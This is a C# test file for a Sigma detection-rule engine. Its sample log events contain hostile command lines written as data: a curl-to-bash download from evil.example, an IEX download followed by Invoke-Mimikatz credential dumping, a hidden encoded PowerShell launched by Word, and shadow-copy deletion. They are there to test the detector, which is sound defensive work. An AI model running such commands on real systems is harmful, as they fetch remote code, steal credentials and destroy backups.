using CyberAgg.Rules.Detection;
using CyberAgg.Rules.Events;
using CyberAgg.Rules.Loading;
using CyberAgg.Rules.LogSources;
using CyberAgg.Rules.Tests.Support;
using Xunit.Abstractions;

namespace CyberAgg.Rules.Tests.Detection;

public sealed class DetectionEngineTests(ITestOutputHelper output)
{
    private static readonly Lazy<RuleSet> Corpus = new(() =>
        RuleSet.LoadDirectories(Directory.GetDirectories(RepositoryPaths.SharedSigma, "rules*")));

    [SigmaCorpusFact]
    public void Match_IndexedRules_FindsSameMatchesAsEvaluatingEveryRule()
    {
        var set = Corpus.Value;
        var engine = new DetectionEngine(set, LogSourceMapping.None);
        var events = SampleEvents();
        var matches = new List<MatchedRule>();

        foreach (var fields in events)
        {
            matches.Clear();
            engine.Match(fields, matches);
            var expected = set.DetectionRules.Where(r => r.MatchesDetection(fields)).Select(r => r.Id).ToList();

            matches.Select(m => m.RuleId).ShouldBe(expected);
        }
    }

    [SigmaCorpusFact]
    public void Match_SysmonProcessEvent_EvaluatesFarFewerRulesThanLoaded()
    {
        var set = Corpus.Value;
        var engine = new DetectionEngine(set);
        var fields = SampleEvents()[0];

        var candidates = engine.CountCandidates(fields);

        output.WriteLine($"{set.DetectionRules.Count} rules, {engine.IndexedFieldCount} indexed fields, {engine.UnanchoredRuleCount} unanchored, {candidates} candidates for one process event");
        candidates.ShouldBeLessThan(set.DetectionRules.Count / 5);
    }

    [SigmaCorpusFact]
    public void Match_WhoamiFromSysmon_MatchesTheCorpusRuleForIt()
    {
        var engine = new DetectionEngine(Corpus.Value);
        var matches = new List<MatchedRule>();

        engine.Match(SampleEvents()[0], matches);

        matches.Select(m => m.Rule.Title).ShouldContain(t => t.Contains("Whoami", StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public void Match_LogSourceMismatch_SkipsRule()
    {
        var set = RuleSet.Parse(TestRules.Yaml("sel:\n  Image|endswith: '\\whoami.exe'\ncondition: sel", "category: process_creation"));
        var engine = new DetectionEngine(set);
        var matches = new List<MatchedRule>();

        engine.Match(TestEvents.Of(("Channel", "Microsoft-Windows-Sysmon/Operational"), ("EventID", "1"), ("Image", @"C:\whoami.exe")), matches).ShouldBe(1);
        engine.Match(TestEvents.Of(("event.category", "process"), ("Image", @"C:\whoami.exe")), matches).ShouldBe(1);
        engine.Match(TestEvents.Of(("Channel", "Microsoft-Windows-Sysmon/Operational"), ("EventID", "11"), ("Image", @"C:\whoami.exe")), matches).ShouldBe(0);
    }

    [Fact]
    public void Match_CustomMappingWithRejectPolicy_DropsUnmappedRules()
    {
        var set = RuleSet.Parse(TestRules.Yaml("sel:\n  A: 1\ncondition: sel", "product: zeek"));
        var mapping = LogSourceMapping.FromYaml("unmapped: reject\nproduct:\n  windows:\n    - Channel|exists: true\n");
        var matches = new List<MatchedRule>();

        new DetectionEngine(set, mapping).Match(TestEvents.Of(("A", "1"), ("event.module", "zeek")), matches).ShouldBe(0);
        new DetectionEngine(set, LogSourceMapping.None).Match(TestEvents.Of(("A", "1")), matches).ShouldBe(1);
    }

    [Fact]
    public void Match_UnmappedProductByDefault_FallsBackToEcsSourceFields()
    {
        var set = RuleSet.Parse(TestRules.Yaml("sel:\n  A: 1\ncondition: sel", "product: zeek\n  service: rdp"));
        var engine = new DetectionEngine(set);
        var matches = new List<MatchedRule>();

        engine.Match(TestEvents.Of(("A", "1")), matches).ShouldBe(0);
        engine.Match(TestEvents.Of(("A", "1"), ("event.module", "Zeek"), ("event.dataset", "zeek.rdp")), matches).ShouldBe(1);
    }

    [Fact]
    public void Match_UnanchoredNegationRule_IsStillEvaluated()
    {
        var set = RuleSet.Parse(TestRules.Yaml("filter:\n  A: 1\ncondition: not filter", string.Empty));
        var engine = new DetectionEngine(set);
        var matches = new List<MatchedRule>();

        engine.UnanchoredRuleCount.ShouldBe(1);
        engine.Match(TestEvents.Of(("B", "2")), matches).ShouldBe(1);
        engine.Match(TestEvents.Of(("A", "1")), matches).ShouldBe(0);
    }

    [SigmaCorpusFact]
    public void Match_ConcurrentCallers_GetConsistentResults()
    {
        var engine = new DetectionEngine(Corpus.Value);
        var events = SampleEvents();
        var expected = events.Select(e => Matches(engine, e)).ToList();

        Parallel.For(0, 200, i =>
        {
            var index = i % events.Count;
            Matches(engine, events[index]).ShouldBe(expected[index]);
        });
    }

    [Fact]
    public void FromYaml_InvalidMapping_ThrowsNamedFormatException()
    {
        Should.Throw<FormatException>(() => LogSourceMapping.FromYaml("product:\n  windows:\n    - Channel|bogus: x\n", "mapping.yml"))
            .Message.ShouldContain("mapping.yml");
    }

    private static List<string> Matches(DetectionEngine engine, IEventFields fields)
    {
        var matches = new List<MatchedRule>();
        engine.Match(fields, matches);
        return matches.Select(m => m.RuleId).ToList();
    }

    private static List<IEventFields> SampleEvents() =>
    [
        TestEvents.Of(
            ("Channel", "Microsoft-Windows-Sysmon/Operational"),
            ("EventID", "1"),
            ("Image", @"C:\Windows\System32\whoami.exe"),
            ("OriginalFileName", "whoami.exe"),
            ("CommandLine", "whoami /all"),
            ("ParentImage", @"C:\Windows\System32\cmd.exe"),
            ("User", @"NT AUTHORITY\SYSTEM")),
        TestEvents.Of(
            ("Channel", "Microsoft-Windows-Sysmon/Operational"),
            ("EventID", "1"),
            ("Image", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
            ("CommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
            ("ParentImage", @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE")),
        TestEvents.Of(
            ("Channel", "Security"),
            ("EventID", "4688"),
            ("NewProcessName", @"C:\Windows\System32\vssadmin.exe"),
            ("CommandLine", "vssadmin delete shadows /all /quiet")),
        TestEvents.Of(
            ("host.os.type", "linux"),
            ("Image", "/usr/bin/curl"),
            ("CommandLine", "curl http://evil.example/x.sh | bash"),
            ("message", "type=EXECVE msg=audit(1.2:3): argc=3 a0=\"curl\"")),
        // Contains-indexed fields in other case, registry, script block and non-ASCII paths.
        TestEvents.Of(
            ("Channel", "Microsoft-Windows-Sysmon/Operational"),
            ("EventID", "1"),
            ("Image", @"C:\WINDOWS\SYSTEM32\WHOAMI.EXE"),
            ("CommandLine", "WHOAMI /PRIV"),
            ("ParentImage", @"C:\Users\Jürgen\AppData\Local\Temp\ÄBC.exe")),
        TestEvents.Of(
            ("Channel", "Microsoft-Windows-Sysmon/Operational"),
            ("EventID", "13"),
            ("EventType", "SetValue"),
            ("Image", @"C:\Users\alice\AppData\Local\Temp\upd.exe"),
            ("TargetObject", @"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\Updater"),
            ("Details", @"C:\Users\alice\AppData\Local\Temp\upd.exe")),
        TestEvents.Of(
            ("Channel", "Microsoft-Windows-PowerShell/Operational"),
            ("EventID", "4104"),
            ("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1'); Invoke-Mimikatz -DumpCreds")),
        TestEvents.Of(
            ("Channel", "Microsoft-Windows-Sysmon/Operational"),
            ("EventID", "3"),
            ("Image", @"C:\Windows\System32\rundll32.exe"),
            ("DestinationHostname", "pastebin.com"),
            ("DestinationPort", "4444"),
            ("Initiated", "true")),
        TestEvents.Of(
            ("observer.partner", "ee-cert"),
            ("observer.country", "EE"),
            ("source.ip", "203.0.113.7"),
            ("dns.question.name", "evil.example"),
            ("event.kind", "alert")),
    ];
}
